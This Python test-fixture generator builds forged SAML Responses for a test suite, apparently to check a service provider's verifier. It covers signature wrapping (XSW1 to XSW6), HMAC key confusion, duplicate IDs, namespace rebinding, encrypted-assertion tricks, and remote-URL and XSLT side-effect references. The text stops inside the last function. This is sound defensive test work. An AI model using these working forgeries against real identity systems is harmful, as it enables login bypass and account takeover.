#!/usr/bin/env python3
"""Adversarial SAML Responses for tests/adversarial.rs, all made in one process.

Every case starts from a response genuinely signed with the test IdP key (signxml, or the
xmlsec1 CLI on a hand-written template when the attack needs an unusual SignedInfo), then
mutates it. Where the attack relies on a signature that still verifies after the mutation, the
case checks that here with a deliberately naive verifier (`naive_verify`: resolves
`URI="#id"` to the first element carrying that ID, always strips the enveloped signature,
never looks at the document structure) and fails loudly if that verifier would reject it:
a test that posts a broken forgery proves nothing.

  saml_attacks.py --sp-entity ID --acs URL --key KEY --cert CRT [--sp-cert SP.crt]
                  [--remote-url URL] [--fifo PATH] [--marker TEXT] [--body-limit N]
                  [--xml-dir DIR] --case NAME [--case NAME ...]
  saml_attacks.py --list

Output: one JSON object per line and case, in order:
  {"case": NAME, "b64": BASE64 of the document, "size": bytes, "body": form body bytes,
   "notes": "what the self-checks found"}
Exit status 2 (and a message on stderr) when a case cannot be built or a required self-check
fails.
"""
import argparse
import base64
import copy
import hashlib
import hmac
import json
import os
import subprocess
import sys
import tempfile

from lxml import etree

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import saml_idp as idp  # noqa: E402
from saml_idp import (NS_DS, NS_SAML, NS_SAMLP, EXC_C14N, ENVELOPED, q, new_id,  # noqa: E402
                      strip_sig, make_evil)

NS_XENC = "http://www.w3.org/2001/04/xmlenc#"
RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
HMAC_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"
XPATH2 = "http://www.w3.org/2002/06/xmldsig-filter2"
BASE64 = "http://www.w3.org/2000/09/xmldsig#base64"
NS_XSL = "http://www.w3.org/1999/XSL/Transform"
EVIL_NS = "urn:example:evil"


class CheckFailed(Exception):
    pass


def die(msg):
    print("saml_attacks.py: " + msg, file=sys.stderr)
    sys.exit(2)


# --------------------------------------------------------------------------- verification

def c14n(el):
    """Exclusive C14N without comments of a copy of `el` (its in-scope namespaces kept)."""
    return etree.tostring(copy.deepcopy(el), method="c14n", exclusive=True, with_comments=False)


def digest_of(el, strip=None):
    """Base64 SHA-256 of exc-c14n(el) with the signature `strip` (or every ds:Signature whose
    SignatureValue equals it) removed: the enveloped transform as a naive verifier does it."""
    c = copy.deepcopy(el)
    if strip is not None:
        sv = sig_value(strip)
        for s in list(c.iter(q(NS_DS, "Signature"))):
            if sig_value(s) == sv and s.getparent() is not None:
                s.getparent().remove(s)
    return base64.b64encode(hashlib.sha256(c14n(c)).digest()).decode()


def sig_value(sig):
    v = sig.find(q(NS_DS, "SignatureValue"))
    return "".join((v.text or "").split()) if v is not None else ""


def by_id(root, ident):
    """First element in document order whose ID (or Id) is `ident`."""
    for el in root.iter():
        if isinstance(el.tag, str) and (el.get("ID") == ident or el.get("Id") == ident):
            return el
    return None


def check_signed_info(sig, cert_pem=None, hmac_key=None, signed_info=None):
    """True if SignatureValue verifies over exc-c14n(SignedInfo)."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import padding
    si = signed_info if signed_info is not None else sig.find(q(NS_DS, "SignedInfo"))
    data = etree.tostring(si, method="c14n", exclusive=True, with_comments=False)
    value = base64.b64decode(sig_value(sig))
    if hmac_key is not None:
        return hmac.compare_digest(hmac.new(hmac_key, data, hashlib.sha256).digest(), value)
    pub = x509.load_pem_x509_certificate(cert_pem).public_key()
    try:
        pub.verify(value, data, padding.PKCS1v15(), hashes.SHA256())
        return True
    except Exception:  # noqa: BLE001 - invalid signature
        return False


def naive_verify(root, sig, cert_pem=None, hmac_key=None, digest_override=None):
    """The verifier the attacks are aimed at: SignatureValue over SignedInfo, then each
    Reference `#id` against the first element with that ID (enveloped signature always
    stripped, transforms ignored). Returns the referenced elements; raises CheckFailed."""
    if not check_signed_info(sig, cert_pem, hmac_key):
        raise CheckFailed("SignatureValue does not verify over SignedInfo")
    out = []
    for ref in sig.find(q(NS_DS, "SignedInfo")).findall(q(NS_DS, "Reference")):
        uri = ref.get("URI", "")
        if not uri.startswith("#"):
            raise CheckFailed("reference %r is not same-document" % uri)
        target = by_id(root, uri[1:])
        if target is None:
            raise CheckFailed("reference %r resolves to nothing" % uri)
        want = digest_override or "".join(ref.find(q(NS_DS, "DigestValue")).text.split())
        got = digest_of(target, strip=sig)
        if got != want:
            raise CheckFailed("digest of %s %r does not match" % (etree.QName(target).localname, uri))
        out.append(target)
    return out


def xmlsec1_verify(xml, index, cert_path=None, hmac_path=None, id_attrs=()):
    """xmlsec1 CLI verdict on the index-th ds:Signature (0-based) of the document."""
    with tempfile.TemporaryDirectory() as d:
        p = os.path.join(d, "doc.xml")
        with open(p, "wb") as f:
            f.write(xml)
        cmd = ["xmlsec1", "--verify"]
        if hmac_path:
            cmd += ["--hmackey", hmac_path]
        else:
            cmd += ["--pubkey-cert-pem", cert_path, "--enabled-key-data", "x509"]
        for ns, local in [(NS_SAMLP, "Response"), (NS_SAML, "Assertion")] + list(id_attrs):
            cmd += ["--id-attr:ID", "%s:%s" % (ns, local)]
        cmd += ["--node-xpath", "(//*[local-name()='Signature' and namespace-uri()='%s'])[%d]"
                % (NS_DS, index + 1), p]
        r = subprocess.run(cmd, capture_output=True, text=True)
        return r.returncode == 0


# --------------------------------------------------------------------------- building blocks

class Ctx:
    def __init__(self, a):
        self.a = a
        with open(a.cert, "rb") as f:
            self.cert_pem = f.read()
        self.notes = []

    def ns(self, *extra):
        base = ["response", "--sp-entity", self.a.sp_entity, "--acs", self.a.acs,
                "--key", self.a.key, "--cert", self.a.cert]
        return idp.build_parser().parse_args(base + list(extra))

    def builder(self, *extra):
        a = self.ns(*extra)
        if a.digest_alg is None:
            a.digest_alg = "sha256"
        return idp.Builder(a), a

    def note(self, s):
        self.notes.append(s)

    def require(self, what, fn):
        try:
            r = fn()
        except CheckFailed as e:
            raise CheckFailed("%s: %s" % (what, e))
        if r is False:
            raise CheckFailed(what)
        self.note(what + ": ok")
        return r

    def naive_ok(self, root, sig, **kw):
        return self.require("naive verifier accepts the moved signature",
                            lambda: naive_verify(root, sig, self.cert_pem, **kw))

    def xmlsec1_info(self, xml, index=0, **kw):
        ok = xmlsec1_verify(xml, index, cert_path=self.a.cert, **kw)
        self.note("xmlsec1 CLI on signature %d: %s" % (index, "valid" if ok else "invalid"))
        return ok


def doc(R):
    return etree.tostring(R, xml_declaration=True, encoding="UTF-8")


def sig_of(el):
    return el.find(q(NS_DS, "Signature"))


def first(root, ns, local):
    return root.find(".//" + q(ns, local))


def set_nameid(el, value):
    """NameID and gmisAccountId of the assertion `el` set to `value`."""
    first(el, NS_SAML, "NameID").text = value
    for at in el.iter(q(NS_SAML, "Attribute")):
        if at.get("Name") == "gmisAccountId":
            for v in at:
                v.text = value


def extensions(*kids):
    ext = etree.Element(q(NS_SAMLP, "Extensions"))
    for k in kids:
        ext.append(k)
    return ext


def after_issuer(parent, el):
    parent.find(q(NS_SAML, "Issuer")).addnext(el)


def template(ref_uri, transforms, sig_method=RSA_SHA256, extra_refs=(), objects=()):
    """An xmlsec1 signature template (marker Id "tmpl" removed after signing)."""
    sig = etree.Element(q(NS_DS, "Signature"), nsmap={"ds": NS_DS})
    sig.set("Id", "tmpl")
    si = etree.SubElement(sig, q(NS_DS, "SignedInfo"))
    etree.SubElement(si, q(NS_DS, "CanonicalizationMethod")).set("Algorithm", EXC_C14N)
    etree.SubElement(si, q(NS_DS, "SignatureMethod")).set("Algorithm", sig_method)
    for uri, trs in [(ref_uri, transforms)] + list(extra_refs):
        ref = etree.SubElement(si, q(NS_DS, "Reference"))
        ref.set("URI", uri)
        if trs:
            t = etree.SubElement(ref, q(NS_DS, "Transforms"))
            for tr in trs:
                t.append(tr)
        etree.SubElement(ref, q(NS_DS, "DigestMethod")).set("Algorithm", SHA256)
        etree.SubElement(ref, q(NS_DS, "DigestValue"))
    etree.SubElement(sig, q(NS_DS, "SignatureValue"))
    ki = etree.SubElement(sig, q(NS_DS, "KeyInfo"))
    etree.SubElement(ki, q(NS_DS, "X509Data"))
    for o in objects:
        sig.append(o)
    return sig


def transform(alg, *kids, text=None):
    t = etree.Element(q(NS_DS, "Transform"))
    t.set("Algorithm", alg)
    for k in kids:
        t.append(k)
    if text is not None:
        t.text = text
    return t


def xmlsec1_sign(ctx, root, id_attrs=(), hmac_key=None):
    """Signs the template with Id="tmpl" inside `root` with the IdP key (xmlsec1 CLI)."""
    with tempfile.TemporaryDirectory() as d:
        tin, tout = os.path.join(d, "in.xml"), os.path.join(d, "out.xml")
        with open(tin, "wb") as f:
            f.write(doc(root))
        if hmac_key is not None:
            kp = os.path.join(d, "hmac.bin")
            with open(kp, "wb") as f:
                f.write(hmac_key)
            cmd = ["xmlsec1", "--sign", "--hmackey", kp]
        else:
            cmd = ["xmlsec1", "--sign", "--privkey-pem", "%s,%s" % (ctx.a.key, ctx.a.cert)]
        for ns, local in [(NS_SAMLP, "Response"), (NS_SAML, "Assertion")] + list(id_attrs):
            cmd += ["--id-attr:ID", "%s:%s" % (ns, local)]
        cmd += ["--node-xpath", "//*[local-name()='Signature' and @Id='tmpl']", "--output", tout, tin]
        p = subprocess.run(cmd, capture_output=True, text=True)
        if p.returncode != 0:
            raise CheckFailed("xmlsec1 --sign failed: " + p.stderr.strip()[-600:])
        with open(tout, "rb") as f:
            out = etree.fromstring(f.read(), etree.XMLParser(resolve_entities=False))
    for s in out.iter(q(NS_DS, "Signature")):
        if s.get("Id") == "tmpl":
            del s.attrib["Id"]
    return out


def genuine(ctx, sign="both"):
    """A normal signed Response (lxml tree) for the default NameID, with its Builder."""
    B, a = ctx.builder("--sign", sign)
    s_a, s_r = sign in ("assertion", "both"), sign in ("response", "both")
    return B.response([B.assertion(a.nameid, signed=s_a)], signed=s_r), B, a


def tampered_digest_setup(ctx):
    """Assertion-signed response whose NameID was changed after signing, plus the digest the
    tampered Assertion would need: the raw material of the DigestValue-confusion attacks."""
    R, B, a = genuine(ctx, "assertion")
    A = R.find(q(NS_SAML, "Assertion"))
    sig = sig_of(A)
    set_nameid(A, a.evil_nameid)
    fake = digest_of(A, strip=sig)
    real = "".join(sig.find(".//" + q(NS_DS, "DigestValue")).text.split())
    if fake == real:
        raise CheckFailed("tampering did not change the digest")
    return R, A, sig, fake, a


def fake_signed_info(sig, digest):
    si = copy.deepcopy(sig.find(q(NS_DS, "SignedInfo")))
    si.find(".//" + q(NS_DS, "DigestValue")).text = digest
    return si


# --------------------------------------------------------------------------- XSW1..XSW8

def xsw1(ctx):
    """Evil Response (new ID, evil Assertion) keeps the original Response signature; the
    original Response, unsigned, sits in that signature's ds:Object."""
    B, a = ctx.builder()
    R = B.response([B.assertion(a.nameid, signed=False)], signed=True)
    orig = strip_sig(copy.deepcopy(R))
    R.set("ID", new_id())
    A = R.find(q(NS_SAML, "Assertion"))
    R.replace(A, make_evil(a, A))
    sig = sig_of(R)
    etree.SubElement(sig, q(NS_DS, "Object")).append(orig)
    ctx.naive_ok(R, sig)
    return doc(R)


def xsw2(ctx):
    """Like XSW1 with the original Response placed before the signature (detached)."""
    B, a = ctx.builder()
    R = B.response([B.assertion(a.nameid, signed=False)], signed=True)
    orig = strip_sig(copy.deepcopy(R))
    R.set("ID", new_id())
    A = R.find(q(NS_SAML, "Assertion"))
    R.replace(A, make_evil(a, A))
    sig = sig_of(R)
    sig.addprevious(orig)
    ctx.naive_ok(R, sig)
    ctx.xmlsec1_info(doc(R))
    return doc(R)


def xsw4(ctx):
    """The signed Assertion becomes the last child of an unsigned evil Assertion."""
    B, a = ctx.builder()
    A = B.assertion(a.nameid, signed=True)
    evil = make_evil(a, A)
    evil.append(A)
    R = B.response([evil])
    ctx.naive_ok(R, sig_of(A))
    ctx.xmlsec1_info(doc(R))
    return doc(R)


def xsw5(ctx):
    """The signed Assertion is altered in place (new ID, evil NameID, signature kept); an
    unsigned copy of the original is appended at the end of the Response."""
    B, a = ctx.builder()
    A = B.assertion(a.nameid, signed=True)
    orig = strip_sig(copy.deepcopy(A))
    evil = make_evil(a, A, keep_sig=True)
    R = B.response([evil, orig])
    ctx.naive_ok(R, sig_of(evil))
    ctx.xmlsec1_info(doc(R))
    return doc(R)


def xsw6(ctx):
    """Like XSW5, the unsigned original copied into the altered Assertion's ds:Signature
    (directly, not in ds:Object)."""
    B, a = ctx.builder()
    A = B.assertion(a.nameid, signed=True)
    orig = strip_sig(copy.deepcopy(A))
    evil = make_evil(a, A, keep_sig=True)
    sig_of(evil).append(orig)
    R = B.response([evil])
    ctx.naive_ok(R, sig_of(evil))
    return doc(R)


def xsw1_both(ctx):
    """XSW1 on a response whose Assertion is signed too (the original keeps both)."""
    B, a = ctx.builder()
    R = B.response([B.assertion(a.nameid, signed=True)], signed=True)
    orig = strip_sig(copy.deepcopy(R))
    R.set("ID", new_id())
    A = R.find(q(NS_SAML, "Assertion"))
    R.replace(A, make_evil(a, A))
    sig = sig_of(R)
    etree.SubElement(sig, q(NS_DS, "Object")).append(orig)
    ctx.naive_ok(R, sig)
    return doc(R)


# --------------------------------------------------------------------------- signature methods

def hmac_case(ctx, key_form, sign):
    """HMAC-SHA256 keyed with the IdP certificate (PEM file bytes or DER): anyone can compute
    it from the metadata; a verifier that lets the message pick the algorithm and feeds the
    configured 'key' to HMAC accepts it."""
    from cryptography import x509
    from cryptography.hazmat.primitives import serialization
    cert = x509.load_pem_x509_certificate(ctx.cert_pem)
    key = ctx.cert_pem if key_form == "pem" else cert.public_bytes(serialization.Encoding.DER)
    B, a = ctx.builder("--sign", "none")
    A = B.assertion(a.nameid, signed=False)
    R = B.response([A])
    target = A if sign == "assertion" else R
    target.find(q(NS_SAML, "Issuer")).addnext(
        template("#" + target.get("ID"), [transform(ENVELOPED), transform(EXC_C14N)],
                 sig_method=HMAC_SHA256))
    tmpl = target.find(q(NS_DS, "Signature"))
    tmpl.remove(tmpl.find(q(NS_DS, "KeyInfo")))
    R = xmlsec1_sign(ctx, R, hmac_key=key)
    target = R if sign == "response" else R.find(q(NS_SAML, "Assertion"))
    ctx.require("HMAC signature verifies (naive, key = certificate %s)" % key_form.upper(),
                lambda: naive_verify(R, sig_of(target), hmac_key=key))
    with tempfile.NamedTemporaryFile() as kf:
        kf.write(key)
        kf.flush()
        ctx.require("xmlsec1 CLI verifies the HMAC signature",
                    lambda: xmlsec1_verify(doc(R), 0, hmac_path=kf.name))
    return doc(R)


def ref_into_object_response(ctx):
    """An evil Assertion carries a genuine signature whose Reference points at a copy, inside
    ds:Object, of an IdP-signed Response that has no Assertion."""
    B, a = ctx.builder()
    R0 = B.response([], signed=True)
    sig = sig_of(R0)
    R0.remove(sig)
    etree.SubElement(sig, q(NS_DS, "Object")).append(R0)
    evil = make_evil(a, B.assertion(a.nameid, signed=False))
    after_issuer(evil, sig)
    R = B.response([evil])
    ctx.naive_ok(R, sig)
    ctx.xmlsec1_info(doc(R))
    return doc(R)


def ref_into_object_data(ctx):
    """An enveloping signature (Reference to its own ds:Object holding IdP-signed data) placed
    in an unsigned evil Assertion."""
    B, a = ctx.builder()
    evil = make_evil(a, B.assertion(a.nameid, signed=False))
    obj = etree.Element(q(NS_DS, "Object"))
    obj.set("Id", "_obj" + new_id()[1:9])
    obj.text = "data the IdP signed for another purpose"
    after_issuer(evil, template("#" + obj.get("Id"), [transform(EXC_C14N)], objects=[obj]))
    R = xmlsec1_sign(ctx, B.response([evil]))
    sig = first(R, NS_DS, "Signature")
    ctx.naive_ok(R, sig)
    ctx.require("xmlsec1 CLI verifies the enveloping signature", lambda: ctx.xmlsec1_info(doc(R)))
    return doc(R)


def dup_id_assertion(ctx, evil_first):
    B, a = ctx.builder()
    A = B.assertion(a.nameid, signed=True)
    evil = make_evil(a, A)
    evil.set("ID", A.get("ID"))
    R = B.response([evil, A] if evil_first else [A, evil])
    ctx.require("the signed Assertion verifies on its own",
                lambda: naive_verify(copy.deepcopy(A), sig_of(A), ctx.cert_pem))
    if not evil_first:
        ctx.naive_ok(R, sig_of(A))
    return doc(R)


def dup_id_extensions(ctx, before):
    """samlp:Extensions with the signed Assertion's ID (holding an evil NameID), before or
    after the Assertion: one Assertion in the document, two elements with its ID."""
    B, a = ctx.builder()
    A = B.assertion(a.nameid, signed=True)
    R = B.response([A])
    nid = etree.Element(q(NS_SAML, "NameID"))
    nid.text = a.evil_nameid
    ext = extensions(nid)
    ext.set("ID", A.get("ID"))
    if before:
        after_issuer(R, ext)
    else:
        R.append(ext)
        ctx.naive_ok(R, sig_of(A))
    return doc(R)


def dup_id_response(ctx, before):
    """An evil Response with the ID of a genuine signed Response (one without an Assertion),
    which rides along in the evil one's Extensions; the only Assertion is the evil one."""
    B, a = ctx.builder()
    R0 = B.response([], signed=True)
    evil = make_evil(a, B.assertion(a.nameid, signed=False))
    R = B.response([evil], rid=R0.get("ID"))
    ext = extensions(R0)
    if before:
        after_issuer(R, ext)
    else:
        R.append(ext)
    ctx.require("the genuine Response verifies on its own",
                lambda: naive_verify(copy.deepcopy(R0), sig_of(R0), ctx.cert_pem))
    return doc(R)


# --------------------------------------------------------------------------- transforms

def assertion_signed_with(ctx, transforms, ref_uri=None):
    B, a = ctx.builder()
    A = B.assertion(a.nameid, signed=False)
    after_issuer(A, template(ref_uri or "#" + A.get("ID"), transforms))
    R = xmlsec1_sign(ctx, B.response([A]))
    return R, a


def identity_xslt(message=None):
    ss = etree.Element(q(NS_XSL, "stylesheet"), nsmap={"xsl": NS_XSL})
    ss.set("version", "1.0")
    t = etree.SubElement(ss, q(NS_XSL, "template"))
    t.set("match", "@*|node()")
    if message:
        etree.SubElement(t, q(NS_XSL, "message")).text = message
    c = etree.SubElement(t, q(NS_XSL, "copy"))
    etree.SubElement(c, q(NS_XSL, "apply-templates")).set("select", "@*|node()")
    return ss


def xform_xslt(ctx):
    R, _ = assertion_signed_with(ctx, [transform(ENVELOPED), transform(XSLT, identity_xslt()),
                                      transform(EXC_C14N)])
    ctx.require("xmlsec1 CLI verifies the XSLT-transformed reference", lambda: ctx.xmlsec1_info(doc(R)))
    return doc(R)


def xform_xpath(ctx):
    xp = etree.Element(q(NS_DS, "XPath"), nsmap={"ds": NS_DS})
    xp.text = "not(ancestor-or-self::ds:Signature)"
    R, _ = assertion_signed_with(ctx, [transform(XPATH, xp), transform(EXC_C14N)])
    ctx.require("xmlsec1 CLI verifies the XPath-filtered reference", lambda: ctx.xmlsec1_info(doc(R)))
    return doc(R)


def xform_xpath2(ctx):
    xp = etree.Element("{%s}XPath" % XPATH2, nsmap={"dsig-xpath": XPATH2, "ds": NS_DS})
    xp.set("Filter", "subtract")
    xp.text = "here()/ancestor::ds:Signature[1]"
    R, _ = assertion_signed_with(ctx, [transform(XPATH2, xp), transform(EXC_C14N)])
    ctx.require("xmlsec1 CLI verifies the XPath-Filter2 reference", lambda: ctx.xmlsec1_info(doc(R)))
    return doc(R)


def xform_base64(ctx):
    """The only Assertion element is an evil unsigned one; its signature (genuine) covers a
    base64 ds:Object whose decoded bytes are the genuine Assertion: what was signed is not an
    element of the document at all."""
    B, a = ctx.builder()
    G = B.assertion(a.nameid, signed=False)
    evil = make_evil(a, G)
    obj = etree.Element(q(NS_DS, "Object"))
    obj.set("Id", "_b64" + new_id()[1:9])
    obj.text = base64.b64encode(c14n(G)).decode()
    after_issuer(evil, template("#" + obj.get("Id"), [transform(BASE64)], objects=[obj]))
    R = xmlsec1_sign(ctx, B.response([evil]))
    ctx.require("xmlsec1 CLI verifies the base64 reference", lambda: ctx.xmlsec1_info(doc(R)))
    return doc(R)


def xform_no_enveloped(ctx):
    """Signed as a detached signature over the Assertion (exc-c14n only), then moved into the
    Assertion: valid only for a verifier that strips the signature without being told to."""
    B, a = ctx.builder()
    A = B.assertion(a.nameid, signed=False)
    R = B.response([A])
    R.append(template("#" + A.get("ID"), [transform(EXC_C14N)]))
    R = xmlsec1_sign(ctx, R)
    sig = R.find(q(NS_DS, "Signature"))
    A = R.find(q(NS_SAML, "Assertion"))
    after_issuer(A, sig)
    ctx.naive_ok(R, sig)
    if ctx.xmlsec1_info(doc(R)):
        raise CheckFailed("xmlsec1 accepts the signature without the enveloped transform")
    return doc(R)


# --------------------------------------------------------------------------- unsigned references

def add_reference(sig, uri, transforms=(), first=False):
    si = sig.find(q(NS_DS, "SignedInfo"))
    ref = etree.Element(q(NS_DS, "Reference"))
    ref.set("URI", uri)
    if transforms:
        t = etree.SubElement(ref, q(NS_DS, "Transforms"))
        for tr in transforms:
            t.append(tr)
    etree.SubElement(ref, q(NS_DS, "DigestMethod")).set("Algorithm", SHA256)
    etree.SubElement(ref, q(NS_DS, "DigestValue")).text = base64.b64encode(b"\0" * 32).decode()
    old = si.find(q(NS_DS, "Reference"))
    (old.addprevious if first else old.addnext)(ref)


def need(ctx, opt):
    v = getattr(ctx.a, opt)
    if not v:
        die("this case needs --%s" % opt.replace("_", "-"))
    return v


def sidefx_remote_reference(ctx):
    """A second Reference to an http URL added to a genuine signature (SignedInfo no longer
    verifies): fetching it would be server-side request forgery before any signature check."""
    R, B, a = genuine(ctx, "assertion")
    add_reference(sig_of(R.find(q(NS_SAML, "Assertion"))),
                  need(ctx, "remote_url") + "reference", first=True)
    return doc(R)


def sidefx_file_reference(ctx):
    R, B, a = genuine(ctx, "assertion")
    add_reference(sig_of(R.find(q(NS_SAML, "Assertion"))), "file://" + need(ctx, "fifo"),
                  first=True)
    return doc(R)


def sidefx_xslt(ctx):
    """A second Reference with an XSLT transform that prints a marker (xsl:message)."""
    R, B, a = genuine(ctx, "assertion")
    A = R.find(q(NS_SAML, "Assertion"))
    add_reference(sig_of(A), "#" + A.get("ID"),
                  [transform(ENVELOPED), transform(XSLT, identity_xslt(need(ctx, "marker")))],
                  first=True)
    return doc(R)


def sidefx_xslt_document(ctx):
    """XSLT that pulls in document('<remote>'), in an unsigned Reference."""
    R, B, a = genuine(ctx, "assertion")
    A = R.find(q(NS_SAML, "Assertion"))
    ss = identity_xslt()
    t = ss.find(q(NS_XSL, "template"))
    v = etree.Element(q(NS_XSL, "value-of"))
    v.set("select", "document('%s')" % (need(ctx, "remote_url") + "xslt-document"))
    t.insert(0, v)
    add_reference(sig_of(A), "#" + A.get("ID"), [transform(ENVELOPED), transform(XSLT, ss)],
                  first=True)
    return doc(R)


def sidefx_retrieval_method(ctx):
    """KeyInfo/RetrievalMethod pointing at an http URL (a key fetched from the message)."""
    R, B, a = genuine(ctx, "assertion")
    A = R.find(q(NS_SAML, "Assertion"))
    sig = sig_of(A)
    ki = sig.find(q(NS_DS, "KeyInfo"))
    for k in list(ki):
        ki.remove(k)
    rm = etree.SubElement(ki, q(NS_DS, "RetrievalMethod"))
    rm.set("URI", need(ctx, "remote_url") + "retrieval-method")
    rm.set("Type", "http://www.w3.org/2000/09/xmldsig#X509Data")
    set_nameid(A, a.evil_nameid)
    return doc(R)


# --------------------------------------------------------------------------- encryption mixes

def encrypt_fragment(ctx, assertion):
    """saml:EncryptedAssertion of `assertion` to the SP certificate (RSA-OAEP + AES-256-GCM,
    the primitives of tests/support/saml_encrypt.py), as an lxml element."""
    import saml_encrypt as se
    from cryptography import x509
    with open(need(ctx, "sp_cert"), "rb") as f:
        cert = x509.load_pem_x509_certificate(f.read())
    cek = os.urandom(32)
    ct = se.encrypt_content("aes256-gcm", cek, etree.tostring(assertion), "random")
    wrapped = se.key_transport("rsa-oaep-mgf1p", cert, cek, None)
    ea = etree.Element(q(NS_SAML, "EncryptedAssertion"), nsmap={"saml": NS_SAML})
    ed = etree.SubElement(ea, q(NS_XENC, "EncryptedData"), nsmap={"xenc": NS_XENC})
    ed.set("Type", se.TYPE_ELEMENT)
    etree.SubElement(ed, q(NS_XENC, "EncryptionMethod")).set("Algorithm", se.DATA["aes256-gcm"][0])
    ki = etree.SubElement(ed, q(NS_DS, "KeyInfo"), nsmap={"ds": NS_DS})
    ek = etree.SubElement(ki, q(NS_XENC, "EncryptedKey"))
    etree.SubElement(ek, q(NS_XENC, "EncryptionMethod")).set(
        "Algorithm", se.KEY_TRANSPORT["rsa-oaep-mgf1p"][0])
    cd = etree.SubElement(ek, q(NS_XENC, "CipherData"))
    etree.SubElement(cd, q(NS_XENC, "CipherValue")).text = se.b64(wrapped)
    cd = etree.SubElement(ed, q(NS_XENC, "CipherData"))
    etree.SubElement(cd, q(NS_XENC, "CipherValue")).text = se.b64(ct)
    return ea


def enc_next_to_plain(ctx, enc_first):
    """A genuinely signed plain Assertion plus a real EncryptedAssertion (to the SP key)
    holding an unsigned evil Assertion."""
    B, a = ctx.builder()
    A = B.assertion(a.nameid, signed=True)
    ea = encrypt_fragment(ctx, make_evil(a, A))
    R = B.response([ea, A] if enc_first else [A, ea])
    if not enc_first:
        ctx.naive_ok(R, sig_of(A))
    return doc(R)


def enc_xsw_inside(ctx):
    """A real EncryptedAssertion whose plaintext is XSW4: an evil Assertion wrapping the
    genuinely signed one."""
    B, a = ctx.builder()
    A = B.assertion(a.nameid, signed=True)
    evil = make_evil(a, A)
    evil.append(A)
    return doc(B.response([encrypt_fragment(ctx, evil)]))


def enc_evil_only(ctx):
    """A real EncryptedAssertion with an unsigned evil Assertion; nothing is signed."""
    B, a = ctx.builder()
    evil = make_evil(a, B.assertion(a.nameid, signed=False))
    return doc(B.response([encrypt_fragment(ctx, evil)]))


def enc_in_response_signature(ctx):
    """A genuine Response-signed response; a real EncryptedAssertion (evil, unsigned) put in
    the Response signature's ds:Object (the enveloped transform keeps the signature valid)."""
    R, B, a = genuine(ctx, "response")
    A = R.find(q(NS_SAML, "Assertion"))
    ea = encrypt_fragment(ctx, make_evil(a, A))
    sig = sig_of(R)
    etree.SubElement(sig, q(NS_DS, "Object")).append(ea)
    ctx.naive_ok(R, sig)
    return doc(R)


# --------------------------------------------------------------------------- namespaces

def ns_default_assertion_first(ctx):
    """An unprefixed evil Assertion in the SAML namespace by default-namespace declaration
    before the signed one (invisible to a reader that matches 'saml:Assertion')."""
    B, a = ctx.builder()
    A = B.assertion(a.nameid, signed=True)
    raw = etree.tostring(make_evil(a, A))
    raw = raw.replace(b'xmlns:saml="%s"' % NS_SAML.encode(), b'xmlns="%s"' % NS_SAML.encode())
    raw = raw.replace(b"<saml:", b"<").replace(b"</saml:", b"</")
    evil = etree.fromstring(raw)
    if evil.tag != q(NS_SAML, "Assertion") or evil.prefix is not None:
        raise CheckFailed("default-namespace Assertion not built")
    R = B.response([evil, A])
    ctx.naive_ok(R, sig_of(A))
    return doc(R)


def lookalike_wrapping(ctx, prefixed):
    """An evil look-alike Assertion in a foreign namespace (default namespace, or the `saml`
    prefix re-bound) as the Response's child, wrapping the genuine signed Assertion: a
    namespace-unaware reader sees an 'Assertion' in place with the evil NameID."""
    B, a = ctx.builder()
    A = B.assertion(a.nameid, signed=True)
    evil = strip_sig(make_evil(a, A))
    raw = etree.tostring(evil)
    if prefixed:
        raw = raw.replace(b'xmlns:saml="%s"' % NS_SAML.encode(), b'xmlns:saml="%s"' % EVIL_NS.encode())
    else:
        raw = raw.replace(b'xmlns:saml="%s"' % NS_SAML.encode(), b'xmlns="%s"' % EVIL_NS.encode())
        raw = raw.replace(b"<saml:", b"<").replace(b"</saml:", b"</")
    evil = etree.fromstring(raw)
    if etree.QName(evil).namespace != EVIL_NS:
        raise CheckFailed("look-alike not in the foreign namespace")
    evil.append(A)
    R = B.response([evil])
    ctx.naive_ok(R, sig_of(A))
    return doc(R)


def ns_samlp_rebound_root(ctx):
    """Root 'samlp:Response' with samlp bound to a foreign namespace, wrapping the genuine
    signed Response."""
    R, B, a = genuine(ctx, "both")
    raw = doc(R).split(b"?>", 1)[1]
    outer = ('<samlp:Response xmlns:samlp="%s" ID="%s">' % (EVIL_NS, new_id())).encode()
    return b"<?xml version='1.0' encoding='UTF-8'?>\n" + outer + raw + b"</samlp:Response>"


def ns_ds_rebound(ctx):
    """The genuine Assertion signature's `ds` prefix re-bound to a foreign namespace on the
    Signature element: a prefix-matching verifier still finds 'ds:Signature'."""
    R, B, a = genuine(ctx, "assertion")
    raw = doc(R)
    old = b'<ds:Signature xmlns:ds="%s">' % NS_DS.encode()
    if raw.count(old) != 1:
        raise CheckFailed("signature start tag not found")
    return raw.replace(old, b'<ds:Signature xmlns:ds="%s">' % EVIL_NS.encode())


def ns_saml_rebound_inside(ctx):
    """Inside the signed Assertion, `saml` re-bound on the Subject to a foreign namespace
    (the NameID is then not a SAML NameID at all)."""
    R, B, a = genuine(ctx, "assertion")
    raw = doc(R)
    if raw.count(b"<saml:Subject>") != 1:
        raise CheckFailed("Subject not found")
    return raw.replace(b"<saml:Subject>", b'<saml:Subject xmlns:saml="%s">' % EVIL_NS.encode())


# --------------------------------------------------------------------------- text nodes

def signed_value_doc(ctx, sign="both"):
    """A genuine response for --nameid (the whole value, e.g. GM0012345.evil)."""
    R, B, a = genuine(ctx, sign)
    return R, a


def replace_value(ctx, xml, a, new):
    old = (">" + a.nameid + "<").encode()
    n = xml.count(old)
    if n < 2:
        raise CheckFailed("value found %d times" % n)
    return xml.replace(old, (">" + new + "<").encode())


def text_pi_signed(ctx):
    """GM0012345<?x y?>.evil signed as-is (C14N keeps processing instructions)."""
    B, a = ctx.builder()
    A = B.assertion(a.nameid, signed=False)
    head, tail = idp.split_point(a.nameid)
    for el in [first(A, NS_SAML, "NameID")] + [v for at in A.iter(q(NS_SAML, "Attribute"))
                                               if at.get("Name") == "gmisAccountId" for v in at]:
        el.text = head
        pi = etree.ProcessingInstruction("x", "y")
        pi.tail = tail
        el.append(pi)
